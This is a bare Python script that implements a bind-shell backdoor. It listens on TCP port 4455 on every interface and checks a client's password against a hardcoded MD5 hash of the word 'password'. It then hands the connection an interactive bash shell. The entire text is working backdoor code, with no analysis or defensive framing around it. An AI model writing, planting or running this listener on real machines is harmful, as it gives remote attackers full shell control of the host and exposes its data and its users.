import socket
import subprocess
import hashlib

PW = "5f4dcc3b5aa765d61d8327deb882cf99"

srv = socket.socket()
srv.bind(("", 4455))
srv.listen(5)
while True:
    c, a = srv.accept()
    c.send(b"pass: ")
    if hashlib.md5(c.recv(64).strip()).hexdigest() != PW:
        c.close()
        continue
    subprocess.Popen(["/bin/bash", "-i"], stdin=c, stdout=c, stderr=c)
